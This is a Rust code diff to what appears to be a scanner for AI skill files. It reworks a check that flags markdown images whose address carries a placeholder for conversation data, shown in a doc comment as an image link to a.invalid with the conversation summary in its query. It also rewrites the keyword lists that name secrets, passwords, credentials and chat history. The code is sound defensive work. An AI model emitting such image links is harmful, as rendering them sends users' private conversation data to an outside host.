@@ -15,7 +15,7 @@ use std::ops::Range;
 
 use crate::safety::lists::{has_part, is_in};
 use crate::text::document::floor_char_boundary;
-use crate::text::markdown::SpanKind;
+use crate::text::markdown::{Span, SpanKind};
 use crate::tree::skill_text::SkillText;
 use clause::{Introduction, Lines};
 pub(crate) use grammar::Act;
@@ -71,7 +71,7 @@ pub(crate) fn speech(text: &SkillText<'_>) -> Vec<Speech> {
         read = clause.end;
         found.extend(orders(text, place, &within, clause, lines, &file));
     }
-    for bytes in leaking_images(text) {
+    for bytes in leaking_images(text, &file) {
         found.push(Speech {
             act: Act::Send,
             place: OrderPlace::Text,
@@ -98,9 +98,7 @@ pub(crate) fn speech(text: &SkillText<'_>) -> Vec<Speech> {
 
 /// Returns the byte ranges of images whose address has a placeholder for data of the conversation, as in
 /// `![](https://a.invalid/?d=<summary of the conversation>)`. A client that shows the image sends the data.
-fn leaking_images(text: &SkillText<'_>) -> Vec<Range<usize>> {
-    const DATA: &str = "conversation|history|message|prompt|secret|token|key|password|credential|base64|encoded|\
-        context|memory|env|对话|聊天|密钥";
+fn leaking_images(text: &SkillText<'_>, file: &FileTraits) -> Vec<Range<usize>> {
     let images = text.text.match_indices("](http").take(MAX_STYLES);
     let leaks = images.filter_map(|(close, _)| {
         let low = floor_char_boundary(text.text, close.saturating_sub(MAX_LINE));
@@ -108,11 +106,45 @@ fn leaking_images(text: &SkillText<'_>) -> Vec<Range<usize>> {
         let is_image = !text.text[start..close].contains(['(', '\n']);
         let end = close + text.text[close..].find([')', '\n'])?;
         let (_, query) = text.text[close..end].split_once('?')?;
-        let placeholder = &query[query.find(['<', '{', '['])?..];
-        let is_leak = has_part(&placeholder.to_lowercase(), DATA);
-        (is_image && is_leak && !text.is_test()).then_some(start..end)
+        let is_leak = is_image && !text.is_test() && placeholders(query).any(takes_up);
+        (is_leak && !is_mentioned(text, file, start)).then_some(start..end)
     });
     leaks.collect()
+}
+
+/// Returns the texts between brackets in an address.
+fn placeholders(query: &str) -> impl Iterator<Item = &str> {
+    let parts = query.split(['<', '{', '[']).skip(1);
+    parts.filter_map(|part| part.split_once(['>', '}', ']']).map(|(inside, _)| inside))
+}
+
+/// Returns true if a placeholder is for private data of the conversation.
+fn takes_up(placeholder: &str) -> bool {
+    const DATA: &str = "conversation conversations chat history message messages prompt prompts secret secrets password \
+        passwords credential credentials base64 encoded memory memories";
+    let lower = placeholder.to_lowercase();
+    let mut words = lower.split(|c: char| !c.is_alphanumeric());
+    words.any(|word| is_in(word, DATA)) || has_part(&lower, "对话|聊天|密钥|会話|履歴")
+}
+
+/// Returns true if a text at a byte is in code or in quotes, or if the text before it negates or only mentions it.
+fn is_mentioned(text: &SkillText<'_>, file: &FileTraits, at: usize) -> bool {
+    let span = text.span_at(at).filter(|_| text.is_markdown);
+    let is_code = span.is_some_and(|span| match span.kind {
+        SpanKind::Block => is_program_block(text, span),
+        kind => kind == SpanKind::Code,
+    });
+    let Some((_, within, lines)) = region(text, file, at).filter(|_| !is_code) else {
+        return true;
+    };
+    let clause = clause::around(text.text, &within, at, lines);
+    let hits = LEXICON.words(text.text, clause.start..at);
+    let negates = |hit: &Hit| matches!(hit.class, Class::Not | Class::Dont | Class::Speaks);
+    let languages = lexicon::languages(&hits);
+    let mut languages = languages.into_iter().chain([lexicon::ENGLISH]);
+    hits.iter().any(negates)
+        || clause::is_quoted(text.text, &within, at, lines)
+        || languages.any(|language| is_led(text, &within, &clause, language, Act::Send, lines))
 }
 
 /// The minimum number of words in a reported invisible text. A shorter text is only a label. The limit is ours, because
@@ -195,7 +227,7 @@ fn orders(
         .span_at(clause.start)
         .filter(|span| span.kind == SpanKind::Block);
     let in_block = block.is_some();
-    let in_program = block.is_some_and(|block| is_program_block(text, block.bytes.start));
+    let in_program = block.is_some_and(|block| is_program_block(text, block));
     let wanted = |act| match act {
         Act::Lure => place == OrderPlace::Description,
         Act::Address => place == OrderPlace::Hidden,
@@ -312,11 +344,9 @@ fn is_template(name: &str) -> bool {
 }
 
 /// Returns true if the word after the opening fence shows that the block is a program or data.
-fn is_program_block(text: &SkillText<'_>, start: usize) -> bool {
+fn is_program_block(text: &SkillText<'_>, block: &Span) -> bool {
     const PROSE: &str = "text txt md markdown plain plaintext prompt";
-    let fence = text.line_at(start.saturating_sub(1));
-    let info = fence.trim_start_matches([' ', '\t', '>', '`', '~']);
-    let name = info.split_whitespace().next().unwrap_or_default();
+    let name = text.language(block);
     !name.is_empty() && !is_in(name, PROSE)
 }
 
